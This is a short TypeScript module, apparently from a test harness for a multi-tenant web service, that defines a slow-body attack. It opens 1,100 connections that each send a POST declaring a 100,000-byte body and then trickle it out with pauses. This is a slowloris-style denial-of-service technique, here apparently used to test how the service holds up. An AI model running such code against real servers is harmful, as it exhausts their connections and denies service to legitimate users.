import type { PrepareAttack } from "./attack";
import { beginTrickle } from "./trickle";

const connections = 1_100;

/** Begins requests whose bodies never come. */
export const slowBodies: PrepareAttack = async ({ url, attacker }) => ({
    name: `${connections} bodies of one user that trickle, from the tenant's own address`,
    begin: () => {
        const start = `POST /api/v1/user HTTP/1.1\r\nHost: x\r\nsection-token: ${attacker.token}\r\nContent-Length: 100000\r\n\r\n{`;
        return beginTrickle(url, { connections, start, pauseMs: 100 });
    },
});
